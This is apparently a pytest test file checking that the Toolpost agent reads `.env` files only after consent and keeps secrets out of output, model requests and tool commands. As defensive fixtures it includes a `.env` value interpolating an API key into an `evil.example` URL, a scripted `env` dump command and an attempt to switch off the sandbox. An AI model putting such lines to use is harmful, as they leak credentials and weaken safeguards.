"""`.env` and `.env.local` are read once the user has said so, for Toolpost alone, and are secrets everywhere."""

import json

import pytest
from console import Console

from toolpost.testing import Upstream, call, text

KEY = "ark-5f0c8a1e-77aa-4b7e-9d55-0123456789ab"


@pytest.fixture
async def upstream():
    async with Upstream(text("It is sunny."), repeat=True, strict=False) as up:
        yield up


@pytest.fixture
def console(tmp_path, upstream):
    console = Console(tmp_path)
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL"):
        del console.environ[name]
    write(console, f"OPENAI_API_KEY={KEY}\nOPENAI_API_BASE={upstream.base_url}\nMONGODB_URI=mongodb://u:pw@db/chat\n")
    return console


def write(console, lines, name=".env"):
    (console.folder / name).write_text(lines)


async def test_nothing_is_read_before_and_everything_after(console, upstream):
    before = await console.run("hello")
    assert before.status != 0
    assert "toolpost trust --env" in before.err
    assert not upstream.requests
    given = await console.call("trust", "--env", "--yes")
    assert given.status == 0
    after = await console.run("hello")
    assert "It is sunny." in after.out
    assert upstream.requests[0].headers["authorization"] == f"Bearer {KEY}"
    assert ".env" not in after.err


async def test_names_and_addresses_are_shown_and_no_secret(console, upstream):
    given = await console.call("trust", "--env", "--yes")
    assert KEY not in given.out
    assert "pw@" not in given.out
    assert "OPENAI_API_KEY" in given.out
    assert upstream.base_url in given.out
    assert "MONGODB_URI      not used: sessions are in SQLite or PostgreSQL" in given.out


async def test_a_person_at_a_terminal_is_asked_once(console):
    async with console.terminal("run", "hello") as terminal:
        asked = await terminal.seen("[y/N] ")
        assert KEY not in asked
        terminal.type("y\n")
        await terminal.seen("It is sunny.")
        await terminal.ended()
    async with console.terminal("run", "hello") as terminal:
        assert "[y/N]" not in await terminal.seen("It is sunny.")
        await terminal.ended()


async def test_who_says_no_is_not_asked_again_before_the_file_changes(console):
    for answer in ("n\n", ""):
        async with console.terminal("run", "hello") as terminal:
            if answer:
                await terminal.seen("[y/N] ")
                terminal.type(answer)
            assert "[y/N]" not in await terminal.seen("openai needs a key")
            await terminal.ended()
    write(console, f"OPENAI_API_KEY={KEY}-new\n")
    async with console.terminal("run", "hello") as terminal:
        await terminal.seen("[y/N] ")
        terminal.type("n\n")
        await terminal.ended()


async def test_a_changed_file_is_not_read_before_the_next_yes(console):
    await console.call("trust", "--env", "--yes")
    write(console, f"OPENAI_API_KEY={KEY}\nOPENAI_BASE_URL=http://127.0.0.1:9/v1\n")
    done = await console.run("hello")
    assert "changed since you allowed it" in done.err
    assert done.status != 0
    assert json.loads((await console.call("trust", "--env", "--json")).out)["state"] == "changed"


async def test_the_environment_wins_and_the_local_file_comes_before_the_other(console, upstream):
    write(console, "OPENAI_API_KEY=from-the-local-file-0123456789\n", ".env.local")
    await console.call("trust", "--env", "--yes")
    await console.run("hello")
    console.environ["OPENAI_API_KEY"] = "of-the-environment-0123456789"
    await console.run("hello")
    keys = [request.headers["authorization"] for request in upstream.requests]
    assert keys == ["Bearer from-the-local-file-0123456789", "Bearer of-the-environment-0123456789"]


async def test_commands_and_models_never_get_the_values(console, upstream):
    await console.call("trust", "--env", "--yes")
    async with Upstream(
        call("bash", {"command": "env; echo the key is ark-5f0c8a1e-77aa-4b7e-9d55-0123456789ab"}), text("done")
    ) as up:
        write(console, f"OPENAI_API_KEY={KEY}\nOPENAI_API_BASE={up.base_url}\nPLAIN_WORD=somethingplain\n")
        await console.call("trust", "--env", "--yes")
        done = await console.call("run", "--allow", "*", "go")
        told = up.requests[-1].raw.decode()
    assert "done" in done.out
    assert "OPENAI_API_KEY" not in told
    assert "somethingplain" not in told
    assert KEY not in done.out + done.err
    assert "the key is ***" in done.err


async def test_where_toolpost_keeps_its_things_is_not_for_such_a_file(console):
    write(console, f"TOOLPOST_DATA_DIR={console.folder}/data\nTOOLPOST_MODEL=openai/from-the-file\n")
    del console.environ["TOOLPOST_MODEL"]
    await console.call("trust", "--env", "--yes")
    assert "openai/from-the-file" in (await console.call("models")).out
    assert not (console.folder / "data").exists()


async def test_doctor_says_what_is_used_and_what_is_not(console):
    assert "toolpost trust --env" in (await console.call("doctor")).out
    await console.call("trust", "--env", "--yes")
    assert ".env: 2 variables used; not used: MONGODB_URI" in (await console.call("doctor")).out
    await console.call("trust", "--env", "--revoke")
    assert "you said no to .env" in (await console.call("doctor")).out


async def test_a_file_without_anything_for_toolpost_is_not_mentioned(console):
    write(console, "PORT=3000\nDEBUG=1\n")
    done = await console.run("-m", "ollama/x", "hello")
    assert ".env" not in done.err


async def test_another_name_of_ollamas_address_is_understood(console, upstream):
    write(console, "OLLAMA_API_URL=http://127.0.0.1:9/\n")
    await console.call("trust", "--env", "--yes")
    assert "http://127.0.0.1:9" in (await console.call("models")).out


async def test_secrets_of_the_environment_do_not_come_into_what_is_shown(console):
    console.environ["OPENAI_API_KEY"] = KEY
    write(console, "OLLAMA_HOST=http://evil.example/${OPENAI_API_KEY}\n")
    given = await console.call("trust", "--env", "--yes")
    assert KEY not in given.out
    assert "http://evil.example/" in given.out


async def test_what_tools_may_do_is_not_for_such_a_file(console):
    write(console, "TOOLPOST_SANDBOX=off\nTOOLPOST_HEADLESS=allow\nTAVILY_API_KEY=\n")
    given = await console.call("trust", "--env", "--yes")
    assert "TOOLPOST_SANDBOX   not used: set it in the environment" in given.out
    assert "TAVILY_API_KEY     not used: it is empty" in given.out
    assert ".env: 0 variables used" in (await console.call("doctor")).out
    shown = (await console.call("config", "show", "--origin")).out
    assert "TOOLPOST_SANDBOX" not in shown
    assert "TOOLPOST_HEADLESS" not in shown


async def test_a_server_says_that_accounts_are_off_because_the_file_is_not_read(console):
    write(console, "TOOLPOST_SERVER_ACCOUNTS=true\n")
    # An agent that nobody has: it ends before it listens.
    done = await console.call("serve", "--port", "0", "--agent", "nobody")
    assert "accounts are off: .env sets TOOLPOST_SERVER_ACCOUNTS and is not read" in done.err
